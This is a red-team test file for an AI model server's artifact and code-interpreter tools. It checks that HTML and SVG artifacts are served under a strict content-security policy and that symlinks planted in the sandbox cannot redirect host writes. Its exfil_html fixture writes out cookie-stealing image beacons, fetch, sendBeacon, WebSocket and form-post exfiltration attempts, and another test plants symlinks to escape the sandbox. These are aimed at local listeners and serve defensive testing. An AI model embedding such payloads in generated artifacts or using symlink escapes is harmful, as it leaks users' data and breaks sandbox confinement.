// Red team, tool abuse through a real muse serve (tiny test model, tests/server/harness.mjs):
// artifacts whose HTML tries to send data out (fetch, an image, prefetch, a form, sendBeacon, a
// websocket) are served with headers that forbid all of it, and never as HTML without them; a
// link the sandbox planted in /mnt/data does not make the server write through it. With
// Debian's chromium installed the artifact is also loaded in a real browser and the server must
// see none of its requests; without it that part is skipped and says so.
import assert from "node:assert/strict";
import { execFile, execFileSync } from "node:child_process";
import fs from "node:fs";
import http_mod from "node:http";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { data_dir_make, http, key_create, models, openai_client, package_load, server_start } from "../server/harness.mjs";

const T = { timeout: 300_000 };
const exec_file = promisify(execFile);

// An artifact that tries every way out it can think of, aimed at `target` (a loopback URL).
function exfil_html(target) {
    return `<!DOCTYPE html><html><head>
<link rel="prefetch" href="${target}/prefetch">
<link rel="stylesheet" href="${target}/style.css">
<script src="${target}/script.js"></script>
</head><body>
<img src="${target}/img-tag">
<form id="f" method="POST" action="${target}/form"><input name="secret" value="s3cret"></form>
<iframe src="${target}/frame"></iframe>
<script>
fetch("${target}/v1/models").catch(() => {});
new Image().src = "${target}/image?d=" + encodeURIComponent(document.cookie);
navigator.sendBeacon && navigator.sendBeacon("${target}/beacon", "secret");
try { new WebSocket("${target.replace("http", "ws")}/ws"); } catch (e) {}
try { const x = new XMLHttpRequest(); x.open("GET", "${target}/xhr"); x.send(); } catch (e) {}
try { document.getElementById("f").submit(); } catch (e) {}
</script></body></html>`;
}

// The policy as a map of directive -> its source list.
function csp_parse(header) {
    const out = new Map();
    for (const part of header.split(";")) {
        const words = part.trim().split(/\s+/).filter(Boolean);
        if (words.length) out.set(words[0].toLowerCase(), words.slice(1));
    }
    return out;
}

// What a directive allows: its own list, or default-src's for a fetch directive it falls back to.
function csp_sources(csp, directive) {
    return csp.get(directive) ?? csp.get("default-src") ?? ["*"];
}

function assert_locked_down(res, what) {
    assert.equal(res.status, 200, `${what}: ${res.text.slice(0, 300)}`);
    const header = res.headers.get("content-security-policy");
    assert.ok(header, `${what}: no Content-Security-Policy`);
    const csp = csp_parse(header);
    assert.deepEqual(csp.get("default-src"), ["'none'"], header);
    // Every way to send a request: none may name a place on the network.
    for (const d of ["connect-src", "img-src", "script-src", "style-src", "font-src", "media-src", "frame-src",
                     "child-src", "object-src", "manifest-src", "worker-src", "prefetch-src"]) {
        for (const s of csp_sources(csp, d)) {
            assert.ok(["'none'", "'unsafe-inline'", "data:", "blob:"].includes(s), `${what}: ${d} allows ${s} (${header})`);
        }
    }
    assert.deepEqual(csp_sources(csp, "connect-src"), ["'none'"], header);  // fetch, XHR, sendBeacon, WebSocket
    assert.deepEqual(csp.get("form-action"), ["'none'"], header);
    const sandbox = csp.get("sandbox");
    assert.ok(sandbox, `${what}: no sandbox directive (${header})`);
    assert.ok(sandbox.includes("allow-scripts"), header);
    for (const flag of ["allow-same-origin", "allow-top-navigation", "allow-popups", "allow-forms", "allow-modals"]) {
        assert.ok(!sandbox.includes(flag), `${what}: sandbox has ${flag} (${header})`);
    }
    assert.equal(res.headers.get("x-content-type-options"), "nosniff", what);
}

function sql_text(s) {
    return `'${s.replaceAll("'", "''")}'`;
}

// An artifact row written straight into the store, as create_artifact would write it: the tiny
// model's random weights cannot be made to write this HTML.
function artifact_insert(data_dir, user, id, type, content) {
    const db = path.join(data_dir, "muse.db");
    execFileSync("sqlite3", [db, `.timeout 5000`,
        `INSERT INTO artifacts (id, version, user_id, workspace, title, type, content, created_at)
         SELECT ${sql_text(id)}, 1, id, 'ws_redteam', 'exfil', ${sql_text(type)}, ${sql_text(content)}, strftime('%s','now')
         FROM users WHERE name = ${sql_text(user)};`]);
}

function chromium_path() {
    for (const name of ["chromium", "chromium-browser"]) {
        try {
            return execFileSync("which", [name], { encoding: "utf8" }).trim();
        } catch {}
    }
    return "";
}

describe("artifacts that try to exfiltrate", () => {
    let server, dir, alice, bob, openai, sink, sink_hits = [];
    before(async () => {
        dir    = data_dir_make();
        alice  = key_create(dir, "alice");
        bob    = key_create(dir, "bob");
        server = await server_start({ model: models.qwen, data_dir: dir,
                                      args: ["--tools", "python,artifacts", "--max-steps", "2", "--max-argument-chars", "40",
                                             "-c", "4096", "--max-concurrency", "2"] });
        openai = await openai_client(server, alice);
        // A loopback listener that counts every request that reaches it.
        sink = http_mod.createServer((req, res) => { sink_hits.push(`${req.method} ${req.url}`); res.end("ok"); });
        await new Promise((r) => sink.listen(0, "127.0.0.1", r));
    });
    after(async () => {
        await server?.stop();
        sink?.close();
    });

    test("the artifact a forced create_artifact stored is served locked down", T, async () => {
        let item;
        for (const seed of [1, 2, 3, 4]) {
            const r = await openai.responses.create({ model: "muse", input: "Make a tiny game.", muse: { tools: ["artifacts"] },
                                                      tool_choice: { type: "function", name: "create_artifact" }, parallel_tool_calls: false,
                                                      max_output_tokens: 300, reasoning: { effort: "minimal" }, temperature: 0.8, seed });
            item = r.output.find((it) => it.type === "muse_tool_call" && it.outcome === "ok");
            if (item) break;
        }
        assert.ok(item, "no seed gave a stored artifact");
        const res = await http(server, "GET", `/v1/artifacts/${item.detail.artifact.id}`, { key: alice });
        assert_locked_down(res, "the forced artifact");
    });

    test("an exfiltrating HTML artifact: every way out is forbidden by its headers", T, async () => {
        const target = server.url;  // the API itself: what a same-origin fetch would reach
        artifact_insert(dir, "alice", "art_redteam_html", "html", exfil_html(target));
        artifact_insert(dir, "alice", "art_redteam_svg", "svg",
                        `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${target}/v1/models")</script>` +
                        `<image href="${target}/svg-image"/></svg>`);
        const html = await http(server, "GET", "/v1/artifacts/art_redteam_html", { key: alice });
        assert_locked_down(html, "html");
        assert.match(html.headers.get("content-type"), /^text\/html; charset=utf-8$/);
        assert.ok(html.text.includes("sendBeacon"));  // served as stored: the headers do the work
        const svg = await http(server, "GET", "/v1/artifacts/art_redteam_svg", { key: alice });
        assert_locked_down(svg, "svg");
        assert.match(svg.headers.get("content-type"), /^image\/svg\+xml/);
    });

    test("the artifact is never HTML without those headers: no key, another user, JSON, bad versions", T, async () => {
        const cases = [
            ["no key", await http(server, "GET", "/v1/artifacts/art_redteam_html", { headers: { accept: "text/html" } })],
            ["bob", await http(server, "GET", "/v1/artifacts/art_redteam_html", { key: bob, headers: { accept: "text/html" } })],
            ["json", await http(server, "GET", "/v1/artifacts/art_redteam_html?format=json", { key: alice })],
            ["version 7", await http(server, "GET", "/v1/artifacts/art_redteam_html?version=7", { key: alice })],
            ["version abc", await http(server, "GET", "/v1/artifacts/art_redteam_html?version=abc", { key: alice })],
            ["query key", await http(server, "GET", `/v1/artifacts/art_redteam_html?api_key=${alice}`, {})],
        ];
        for (const [what, res] of cases) {
            const type = res.headers.get("content-type") ?? "";
            if (type.startsWith("text/html") || type.startsWith("image/svg")) {
                assert_locked_down(res, what);  // "version abc" is the latest version, as served above
            } else {
                assert.match(type, /^application\/json/, `${what}: ${res.status} ${type}`);
            }
        }
        assert.equal(cases[0][1].status, 401);
        assert.equal(cases[1][1].status, 404);
        assert.equal(cases[2][1].status, 200);
        assert.equal(cases[2][1].json.content.includes("sendBeacon"), true);
        assert.equal(cases[3][1].status, 404);
        assert.equal(cases[5][1].status, 401);
    });

    test("in headless chromium the artifact's requests reach nothing", T, async (t) => {
        const chromium = chromium_path();
        if (!chromium) {
            return t.skip("chromium is not installed (Debian's chromium package): the browser half of this check did not run; " +
                          "the headers above are checked without it");
        }
        const target = `http://127.0.0.1:${sink.address().port}`;
        artifact_insert(dir, "alice", "art_redteam_sink", "html", exfil_html(target));
        const res = await http(server, "GET", "/v1/artifacts/art_redteam_sink", { key: alice });
        // The browser gets the bytes and the headers from a loopback proxy that adds the key.
        const proxy = http_mod.createServer((req, out) => {
            out.writeHead(200, { "content-type": res.headers.get("content-type"),
                                 "content-security-policy": res.headers.get("content-security-policy"),
                                 "x-content-type-options": "nosniff" });
            out.end(res.text);
        });
        await new Promise((r) => proxy.listen(0, "127.0.0.1", r));
        try {
            sink_hits = [];
            // Asynchronously: the proxy and the sink answer from this process's event loop, which
            // a synchronous spawn would block until chromium gave up.
            await exec_file(chromium, ["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000", "--dump-dom",
                                       `http://127.0.0.1:${proxy.address().port}/`], { timeout: 60_000 });
            assert.deepEqual(sink_hits, [], `the artifact reached the listener: ${sink_hits.join(", ")}`);
        } finally {
            proxy.close();
        }
    });
});

describe("code_interpreter files and links the sandbox planted", () => {
    let server, dir, alice, openai;
    before(async () => {
        dir    = data_dir_make();
        alice  = key_create(dir, "alice");
        server = await server_start({ model: models.qwen, data_dir: dir,
                                      args: ["--tools", "python", "--max-steps", "2", "--max-argument-chars", "40", "-c", "4096"] });
        openai = await openai_client(server, alice);
    });
    after(() => server?.stop());

    test("an upload copied into /mnt/data replaces a planted link, never writes through it", T, async () => {
        const { toFile } = await package_load("openai");
        const ci = (file_ids, previous) => openai.responses.create({
            model: "muse", input: "Look at the csv.", max_output_tokens: 200, previous_response_id: previous,
            tools: [{ type: "code_interpreter", container: { type: "auto", file_ids } }],
            tool_choice: { type: "code_interpreter" }, parallel_tool_calls: false, reasoning: { effort: "minimal" }, temperature: 0 });
        const first = await ci([]);
        const ws    = first.muse.workspace;
        const owner = fs.readdirSync(path.join(dir, "workspaces")).find((u) => fs.existsSync(path.join(dir, "workspaces", u, ws)));
        assert.ok(owner, `no workspace dir for ${ws}`);
        const wdir = path.join(dir, "workspaces", owner, ws);
        // What os.symlink('/host/path', '/mnt/data/report.csv') in the sandbox leaves behind: the
        // host (often root) must not follow it when the next request copies report.csv in.
        const victim = path.join(dir, "victim.txt");
        fs.writeFileSync(victim, "HOST ORIGINAL");
        fs.symlinkSync(victim, path.join(wdir, "report.csv"));
        fs.symlinkSync(path.join(dir, "muse.db"), path.join(wdir, "muse.csv"));
        const db_before = fs.statSync(path.join(dir, "muse.db")).size;
        const up  = await openai.files.create({ file: await toFile(Buffer.from("a,b\n1,2\n"), "report.csv"), purpose: "assistants" });
        const up2 = await openai.files.create({ file: await toFile(Buffer.from("x\n"), "muse.csv"), purpose: "assistants" });
        const next = await ci([up.id, up2.id], first.id);
        assert.ok(["completed", "incomplete"].includes(next.status), JSON.stringify(next).slice(0, 400));
        assert.equal(fs.readFileSync(victim, "utf8"), "HOST ORIGINAL");
        assert.ok(fs.statSync(path.join(dir, "muse.db")).size >= db_before);
        assert.notEqual(fs.readFileSync(path.join(dir, "muse.db")).subarray(0, 16).toString(), "x\n");
        const placed = fs.lstatSync(path.join(wdir, "report.csv"));
        assert.ok(placed.isFile() && !placed.isSymbolicLink(), "report.csv is the upload, not the link");
        assert.equal(fs.readFileSync(path.join(wdir, "report.csv"), "utf8"), "a,b\n1,2\n");
    });
});
